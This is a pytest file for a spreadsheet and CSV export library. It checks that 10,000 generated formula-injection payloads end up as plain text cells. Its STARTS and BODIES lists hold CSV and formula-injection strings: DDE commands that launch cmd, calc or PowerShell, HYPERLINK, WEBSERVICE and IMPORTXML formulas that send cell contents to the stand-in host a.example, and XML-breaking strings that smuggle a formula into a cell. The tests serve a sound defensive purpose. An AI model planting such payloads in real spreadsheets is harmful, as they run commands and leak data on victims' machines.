"""Whatever people type stays a text in every sheet we hand out: 10,000 made-up payloads, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import random
import re
import zipfile
from collections.abc import Callable, Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from greenlist.decisions.witness_book import _sheet as witness_sheet
from greenlist.documents.agency_year import AgencyYear, agency_year
from greenlist.documents.consultation_table import Cell, Row, consultation_table
from greenlist.documents.exports import csv_lines, workbook
from greenlist.documents.form import Stated, write_form
from greenlist.documents.style import Book, TextSheet, put, put_row
from greenlist.documents.summary import SUMMARY_VALUES, columns_for, write_summary
from greenlist.engine.case import Kind
from greenlist.engine.decimals import parse_decimal
from greenlist.engine.lawbook import LawBook
from greenlist.journal.queries import _line
from greenlist.panels.results_file import _write as panel_sheet

COUNT = 10_000
MOST = 32_767
STARTS = (
    "=", "+", "-", "@", "\t", "\r", "\n", "\r\n=", "＝", "＋", "－", "＠", "﹦", "|", "%", "'", '"', " =", "\u3000=",
    "\ufeff=", "\u200b=", "\u00ad@", "\u202e=", "\x00=", "\x1b+", "<r>", "{=", "_x003D_", "\ud800=", "=\udfff",
    "\ufffe=", "&#61;",
)  # fmt: skip
BODIES = (
    "1+1", "A1", "cmd|' /C calc'!A0", "cmd|'/c powershell'!_xlbgnm.A1", 'HYPERLINK("http://a.example/?x="&A1,"点此")',
    'WEBSERVICE("http://a.example")', 'IMPORTXML(CONCAT("http://a.example/",A1:A9),"//a")',
    "SUM(1+1)*cmd|' /C calc'!A0", 'DDE("cmd";"/C calc";"a")', "MSEXCEL|'\\..\\..\\cmd.exe'!A1", "示例机械有限公司",
    "SUM(A:A)</t></is></c><c><f>1+1</f></c>",
    "]]><f>1</f>", "&lt;f&gt;", '"";=1+1', ",=1+1", ";=1+1", "\n=1+1", "\x07\x0b", "\U0001f600", "<t>a</t></r>",
    '<t>x</t></r></is></c><c r="Z99"><f>1+1</f><v>2</v></c><c t="inlineStr"><is><r><t>y</t></r>',
)  # fmt: skip
TAIL = ("", "", "", " ", "　", "\u200f", "'", "|", "\x00")


def payloads() -> list[str]:
    """The same ones in every run: starts, bodies and tails in any combination, a few of them longer than a cell."""
    chance = random.Random(7)  # noqa: S311 - the same ones in every run
    made = [
        chance.choice(STARTS) + chance.choice(("", chance.choice(STARTS))) + chance.choice(BODIES) + chance.choice(TAIL)
        for _ in range(COUNT - 40)
    ]
    made += [chance.choice(STARTS) + "长" * (MOST - 3 + place) for place in range(20)]
    made += [chance.choice(STARTS) + "\U0001f600" * (MOST // 2 - 8 + place) for place in range(20)]
    return made


@pytest.fixture(scope="module")
def evil() -> list[str]:
    return payloads()


def kept(text: str) -> str:
    """What a cell can hold of a text."""
    text = re.sub("[\ud800-\udfff]", "\ufffd", text)
    text = text.encode("utf-16-le")[: 2 * MOST].decode("utf-16-le", "ignore")
    return f"{text[: MOST - 1]} " if text.startswith("<r>") and text.endswith("</r>") else text


def raw(content: bytes) -> Iterator[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert not [name for name in archive.namelist() if "externalLink" in name or "vba" in name.lower()]
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet") or name == "xl/sharedStrings.xml":
                yield archive.read(name).decode("utf-8")


def assert_dead(content: bytes, *, formulas: int = 0) -> None:
    """By raw XML: no formula, no link, every `t` one of a text, and well-formed."""
    for part in raw(content):
        assert len(re.findall(r"<f[ >/]", part)) == formulas
        assert "<hyperlink" not in part
        assert set(re.findall(r'<c [^>]*?t="(\w+)"', part)) <= {"s", "inlineStr"}


def texts(content: bytes, *, ours: bool = False) -> list[Any]:
    """Every value of every sheet by openpyxl; a formula has the type f (the form has some of its own), an error e."""
    found = []
    for sheet in openpyxl.load_workbook(io.BytesIO(content), read_only=True).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    assert cell.data_type in {"s", "inlineStr", "str", "n"} or (ours and cell.data_type == "f"), cell
                    found.append(cell.value)
    return found


def seen(text: str) -> str:
    """As openpyxl gives it back: line breaks of XML, and the escapes that Excel reads as characters."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def unescaped(text: Any) -> str:
    return seen(re.sub("_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), str(text)))


def summary(evil: list[str], path: Path) -> bytes:
    policy = LawBook().policy("jilin-2024")
    names = [column.value for column in columns_for(policy, Kind.FACTORY)]
    stream = iter(evil)
    rows = [{name: next(stream, "") for name in names} for _ in range(-(-len(evil) // len(names)))]
    write_summary(path, policy, {Kind.FACTORY: rows})
    return path.read_bytes()


def export(evil: list[str], _: Path) -> bytes:
    return workbook([evil[0], "b"], zip(evil[::2], evil[1::2], strict=True), [False, True])


def consultation(evil: list[str], _: Path) -> bytes:
    rows = [
        Row(one[0], one[1], one[2], [Cell(one[3], "none"), Cell(one[4], "hit")], one[5], 0, one[6])
        for one in zip(*(evil[start::7] for start in range(7)), strict=False)
    ]
    return consultation_table(evil[0], evil[1], evil[2:4], rows)


def year(evil: list[str], _: Path) -> bytes:
    rows = list(zip(*(evil[start::12] for start in range(12)), strict=False))
    four = list(zip(*(evil[start::4] for start in range(4)), strict=False))[:400]
    three = [row[:3] for row in four]
    pairs = [row[:2] for row in four]
    return agency_year(AgencyYear(evil[0], 2024, evil[1], rows, pairs, [(evil[2], 1)], three, three, four))


def witnesses(evil: list[str], _: Path) -> bytes:
    out = io.BytesIO()
    book = Book(out, title=evil[0], constant_memory=True)
    rows = [list(row) for row in zip(*(evil[start::8] for start in range(8)), strict=False)]
    witness_sheet(book, "各方数据", evil[0], dict.fromkeys("甲乙丙丁戊己庚辛", 10.0), rows)
    book.close()
    return out.getvalue()


def panel(evil: list[str], _: Path) -> bytes:
    out = io.BytesIO()
    book = Book(out, title="评审结果")
    panel_sheet(
        book.file.add_worksheet("评审结果", TextSheet), ("甲", "乙"), list(zip(evil[::2], evil[1::2], strict=True))
    )
    book.close()
    return out.getvalue()


WRITERS: tuple[Callable[[list[str], Path], bytes], ...] = (
    summary, export, consultation, year, witnesses, panel,
)  # fmt: skip


@pytest.mark.parametrize("write", WRITERS, ids=lambda one: one.__name__)
def test_every_payload_is_a_text_in_every_sheet(
    write: Callable[[list[str], Path], bytes], evil: list[str], tmp_path: Path
) -> None:
    content = write(evil, tmp_path / "a.xlsx")
    assert_dead(content)
    wanted = {seen(kept(text)) for text in evil}
    if write in {summary, witnesses}:  # one with strings in the cells, one with every text in one place: enough to read
        found = {unescaped(text) for text in texts(content)}
        missing = {text for text in wanted if text not in found and unescaped(text) not in found and text}
        assert missing == set()
    assert write(evil[:700], tmp_path / "b.xlsx") == write(evil[:700], tmp_path / "a.xlsx")  # the bytes repeat


def test_a_filled_form_holds_them_as_texts(evil: list[str], tmp_path: Path, book: LawBook) -> None:
    names = ("unit_intro", "address", "legal_representative", "contact_name", "main_products")
    short = [text for text in evil if len(text) < 200][:2000]
    data = {
        "evaluation_year": 2023, "unit": {"name": short[0], "uscc": short[1]},
        "values": dict(zip(names, short, strict=False)),
        "tenants": [{"name": one, "uscc": other} for one, other in zip(short[::2], short[1::2], strict=True)],
    }  # fmt: skip
    policy = book.policy("jilin-2024")
    plain, filled = tmp_path / "plain.xlsx", tmp_path / "filled.xlsx"
    write_form(book.pack("park-2023"), policy, book, plain)
    write_form(book.pack("park-2023"), policy, book, filled, Stated(data))
    before, after = ([len(re.findall(r"<f[ >]", part)) for part in raw(path.read_bytes())] for path in (plain, filled))
    assert sum(after) == sum(before)  # our own sums, and not one more
    found = {unescaped(text) for text in texts(filled.read_bytes(), ours=True)}
    assert {unescaped(kept(one)) for one in short[:500]} - found == set()


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    values = ("-5", "-0.25", "1,234.5", "0", "－7")
    content = workbook(["数"], [[one] for one in values], [True])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    assert [cell.value for cell in sheet["A"][1:]] == [-5, -0.25, 1234.5, 0, -7]
    policy = LawBook().policy("jilin-2024")
    row = dict.fromkeys(SUMMARY_VALUES, "=1") | {"seq": 1, "score": Decimal("-1.5")}
    write_summary(tmp_path / "a.xlsx", policy, {Kind.FACTORY: [row]})
    cells = [cell for row in openpyxl.load_workbook(tmp_path / "a.xlsx").worksheets[0].iter_rows() for cell in row]
    assert [cell.data_type for cell in cells if cell.value == -1.5] == ["n"]
    out = io.BytesIO()
    book = Book(out, title="a")
    sheet = book.sheet("a")
    put_row(sheet, 0, 0, [-3, -2.5, "-3", True], book.format("text"))
    put(sheet, 1, 0, "-1+1", book.format("text"))
    book.close()
    (line, other) = openpyxl.load_workbook(io.BytesIO(out.getvalue())).worksheets[0].iter_rows(values_only=True)
    assert (line, other[0]) == ((-3, -2.5, "-3", "True"), "-1+1")


RUNS = re.compile(r"^[\s\x00-\x1f\u00ad\u200b-\u200f\u202a-\u202e\u3000\ufeff]*[=+\-@|%＝＋－＠﹦]")


def test_a_csv_has_no_cell_that_a_sheet_would_run(evil: list[str]) -> None:
    for lines in (b"".join(csv_lines(["甲", "=乙"], zip(evil[::2], evil[1::2], strict=True))).decode("utf-8-sig"),
                  _line(evil)):  # fmt: skip
        cells = [cell for row in csv.reader(io.StringIO(lines, newline=""), strict=True) for cell in row]
        assert len(cells) >= COUNT
        live = [
            cell
            for cell in cells
            if (RUNS.match(cell) or cell[:1] in "\t\r\n") and cell and parse_decimal(cell) is None
        ]
        assert live == []
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", lines)
    numbers = b"".join(csv_lines(["数"], [["-5"], ["-0.25"], ["+3"], ["-"], ["-5-"]])).decode("utf-8-sig").split("\r\n")
    assert numbers[1:6] == ["-5", "-0.25", "+3", "'-", "'-5-"]
